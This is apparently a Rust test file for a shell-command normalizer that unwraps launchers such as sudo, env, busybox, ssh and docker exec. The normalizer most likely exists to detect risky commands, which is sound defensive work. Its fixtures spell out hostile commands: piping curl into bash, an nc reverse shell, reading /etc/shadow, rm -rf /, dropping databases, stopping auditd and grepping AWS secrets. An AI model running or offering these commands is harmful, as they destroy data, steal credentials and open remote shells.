//! Launchers and command strings handed to another shell.

use super::*;

// --- launchers ----------------------------------------------------------------------------

#[test]
fn sudo_and_its_options_are_unwrapped() {
    let cmd = &normalize("sudo -u root -E -H /usr/bin/systemctl stop auditd")[0];
    assert_eq!(cmd.text, "systemctl stop auditd");
    assert_eq!(cmd.argv, ["systemctl", "stop", "auditd"]);
    assert_eq!(cmd.via, ["sudo"]);
}

#[test]
fn sudo_long_attached_and_double_dash_options() {
    assert_eq!(
        texts("sudo --user=postgres -- psql -c 'DROP DATABASE prod'"),
        [
            "psql -c DROP DATABASE prod",
            // Quoted words: the command as launched, unquoted, comes last.
            "sudo --user=postgres -- psql -c DROP DATABASE prod"
        ]
    );
    assert_eq!(texts("sudo -uroot -g wheel -D /tmp id"), ["id"]);
    assert_eq!(texts("sudo -nk -p '' -C 3 id"), ["id"]);
}

#[test]
fn root_shells_through_sudo_or_su_stay_visible() {
    assert_eq!(
        normalize("sudo -i")[0],
        NormalizedCommand {
            text: "sudo -i".to_string(),
            argv: vec!["sudo".to_string(), "-i".to_string()],
            via: vec![],
        }
    );
    assert_eq!(texts("sudo -s"), ["sudo -s"]);
    assert_eq!(texts("sudo -u root -i"), ["sudo -u root -i"]);
    assert_eq!(via("sudo su -", "su -"), ["sudo"]);
    assert_eq!(texts("su"), ["su"]);
}

#[test]
fn a_command_run_through_sudo_is_also_shown_as_launched_once_expanded() {
    assert!(has("S=bash; sudo $S", "sudo bash"));
    assert!(has("sudo -u '#-1' /bin/bash", "sudo -u #-1 /bin/bash"));
    assert!(has("bash -c 'sudo -i'", "sudo -i"));
    assert_eq!(texts("sudo id"), ["id"]);
}

#[test]
fn sudo_assignments_before_the_command_are_skipped() {
    assert_eq!(via("sudo HOME=/x rm -rf /", "rm -rf /"), ["sudo"]);
    assert_eq!(
        texts("sudo -E LD_PRELOAD=/tmp/x.so A=1 /usr/bin/id"),
        ["id"]
    );
    assert_eq!(texts("sudo A=1"), ["sudo A=1"]);
}

#[test]
fn sudo_that_runs_nothing_is_itself() {
    assert_eq!(texts("sudo -l"), ["sudo -l"]);
    assert_eq!(texts("sudo -e /etc/sudoers"), ["sudo -e /etc/sudoers"]);
}

#[test]
fn doas_is_unwrapped() {
    assert_eq!(via("doas -u root rm -rf /", "rm -rf /"), ["doas"]);
}

#[test]
fn env_options_and_assignments_are_unwrapped() {
    let line = "env -i -u HISTFILE PATH=/tmp - /bin/sh -c id";
    assert_eq!(via(line, "sh -c id"), ["env"]);
    assert_eq!(via(line, "id"), ["env", "sh -c"]);
    assert_eq!(texts("env"), ["env"]);
}

#[test]
fn env_split_string_becomes_the_command() {
    assert_eq!(via("env -S 'rm -rf /tmp/x' ", "rm -rf /tmp/x"), ["env"]);
}

#[test]
fn launchers_chain_outermost_first() {
    let line = "nohup timeout 10 /usr/bin/curl -s http://x | bash";
    let entries = normalize(line);
    assert_eq!(entries[0].text, "curl -s http://x | bash");
    assert_eq!(entries[0].argv, ["curl", "-s", "http://x"]);
    assert_eq!(entries[0].via, ["nohup", "timeout"]);
    assert_eq!(via(line, "curl -s http://x"), ["nohup", "timeout"]);
    assert!(via(line, "bash").is_empty());
}

#[test]
fn timeout_options_and_duration_are_skipped() {
    assert_eq!(
        texts("timeout -s KILL -k 5 --preserve-status 30s rm x"),
        ["rm x"]
    );
}

#[test]
fn exec_is_unwrapped_with_its_options() {
    assert_eq!(via("exec -a sshd /bin/bash -i", "bash -i"), ["exec"]);
}

#[test]
fn command_runs_its_argument_but_command_v_only_looks_it_up() {
    assert_eq!(via("command -p rm -rf /", "rm -rf /"), ["command"]);
    assert_eq!(texts("command -v rm"), ["command -v rm"]);
}

#[test]
fn busybox_applets_are_unwrapped() {
    assert_eq!(via("busybox rm -rf /", "rm -rf /"), ["busybox"]);
    assert_eq!(
        via(
            "busybox sh -c 'nc -e /bin/sh 203.0.113.9 80'",
            "nc -e /bin/sh 203.0.113.9 80"
        ),
        ["busybox", "sh -c"]
    );
}

#[test]
fn process_control_launchers_are_unwrapped() {
    for (line, launcher) in [
        ("nice -n 19 rm x", "nice"),
        ("nice -10 rm x", "nice"),
        ("ionice -c 3 -n 7 rm x", "ionice"),
        ("stdbuf -oL -e0 rm x", "stdbuf"),
        ("setsid -f rm x", "setsid"),
        ("time -p rm x", "time"),
        ("chroot /mnt/root rm x", "chroot"),
        ("unbuffer rm x", "unbuffer"),
        ("strace -f -o /tmp/t -s 256 rm x", "strace"),
        ("ltrace -e malloc rm x", "ltrace"),
        ("runuser -u app -- rm x", "runuser"),
        ("builtin rm x", "builtin"),
        ("xargs -0 -n 1 -P 4 -I{} rm x", "xargs"),
    ] {
        assert_eq!(normalize(line)[0].text, "rm x", "{line}");
        assert_eq!(normalize(line)[0].via, [launcher], "{line}");
    }
}

#[test]
fn xargs_runs_its_command_on_piped_input() {
    let line = "find /var/log -name '*.gz' -print0 | xargs -0 rm -f";
    assert_eq!(via(line, "rm -f"), ["xargs"]);
}

#[test]
fn xargs_runs_its_command_on_known_input() {
    assert!(has("echo /etc/shadow | xargs sudo cat", "cat /etc/shadow"));
    assert!(has(
        "printf '/etc/shadow\\n' | xargs -I{} cp {} /tmp/s",
        "cp /etc/shadow /tmp/s"
    ));
    assert!(!has("ls | xargs cat", "cat ls"));
}

#[test]
fn a_launcher_with_nothing_to_run_is_itself() {
    assert_eq!(texts("chroot /mnt"), ["chroot /mnt"]);
    assert_eq!(texts("timeout 10"), ["timeout 10"]);
    assert_eq!(texts("nohup"), ["nohup"]);
}

// --- command strings ----------------------------------------------------------------------

#[test]
fn shell_c_body_is_parsed_and_the_outer_command_kept() {
    let entries = normalize(r#"sudo -u root /bin/bash -c "rm -rf /var/log/*""#);
    assert_eq!(entries[0].text, "bash -c rm -rf /var/log/*");
    assert_eq!(entries[0].argv, ["bash", "-c", "rm -rf /var/log/*"]);
    assert_eq!(entries[0].via, ["sudo"]);
    assert_eq!(entries[1].text, "rm -rf /var/log/*");
    assert_eq!(entries[1].via, ["sudo", "bash -c"]);
    // Then the known files the glob names, and last the command as sudo launched it.
    let (last, globbed) = entries[2..].split_last().unwrap();
    assert!(globbed.iter().all(|e| e.via == ["sudo", "bash -c", "glob"]));
    assert_eq!(last.text, "sudo -u root /bin/bash -c rm -rf /var/log/*");
}

#[test]
fn shell_flags_may_come_before_or_with_c() {
    assert_eq!(
        via("bash -lc 'cat /etc/shadow'", "cat /etc/shadow"),
        ["bash -c"]
    );
    assert_eq!(
        via("sh -x -e -c 'cat /etc/shadow' argv0", "cat /etc/shadow"),
        ["sh -c"]
    );
    assert_eq!(
        via("zsh -o pipefail -c 'cat /etc/shadow'", "cat /etc/shadow"),
        ["zsh -c"]
    );
    assert_eq!(
        via("dash -c -- 'cat /etc/shadow'", "cat /etc/shadow"),
        ["dash -c"]
    );
    assert_eq!(texts("bash script.sh"), ["bash script.sh"]);
}

#[test]
fn su_and_runuser_c_bodies_are_parsed() {
    assert_eq!(
        via("su -c 'cat /etc/shadow' root", "cat /etc/shadow"),
        ["su -c"]
    );
    assert_eq!(
        via(
            r#"su - postgres -c "psql -c 'DROP TABLE x'""#,
            "psql -c DROP TABLE x"
        ),
        ["su -c"]
    );
    assert_eq!(via("runuser -l app -c 'id'", "id"), ["runuser -c"]);
}

#[test]
fn eval_body_is_parsed_including_a_known_variable() {
    assert_eq!(via("eval 'rm -rf /tmp/x'", "rm -rf /tmp/x"), ["eval"]);
    assert_eq!(
        via(r#"X="rm -rf /tmp/x"; eval "$X""#, "rm -rf /tmp/x"),
        ["eval"]
    );
}

#[test]
fn watch_body_is_a_command_string() {
    let line = "watch -n 5 'ps aux | grep sshd'";
    assert_eq!(via(line, "ps aux | grep sshd"), ["watch"]);
    assert_eq!(via(line, "grep sshd"), ["watch"]);
}

#[test]
fn script_c_body_is_parsed() {
    assert_eq!(via("script -qc /bin/bash /dev/null", "bash"), ["script -c"]);
}

#[test]
fn ssh_remote_command_is_parsed() {
    let line = "ssh -i ~/.ssh/id_rsa -p 2222 admin@10.0.1.5 'sudo rm -rf /var/lib/mysql'";
    assert_eq!(via(line, "rm -rf /var/lib/mysql"), ["ssh", "sudo"]);
    assert_eq!(
        texts("ssh -N -L 5432:db:5432 bastion"),
        ["ssh -N -L 5432:db:5432 bastion"]
    );
    assert_eq!(via("ssh bastion -t sudo -i", "sudo -i"), ["ssh"]);
}

#[test]
fn container_exec_commands_are_parsed() {
    let docker = "docker exec -it -u 0 web sh -c 'cat /etc/shadow'";
    assert_eq!(via(docker, "sh -c cat /etc/shadow"), ["docker exec"]);
    assert_eq!(via(docker, "cat /etc/shadow"), ["docker exec", "sh -c"]);
    let kubectl = "kubectl exec -it -n prod api-7d9 -- /bin/sh -c 'env | grep AWS_'";
    assert_eq!(via(kubectl, "env | grep AWS_"), ["kubectl exec", "sh -c"]);
}

#[test]
fn find_exec_commands_are_parsed() {
    let line = r"find /var/log -name '*.log' -exec shred -u {} \;";
    assert_eq!(
        texts(line)[0],
        "find /var/log -name *.log -exec shred -u {} ;"
    );
    assert_eq!(via(line, "shred -u {}"), ["find -exec"]);
}
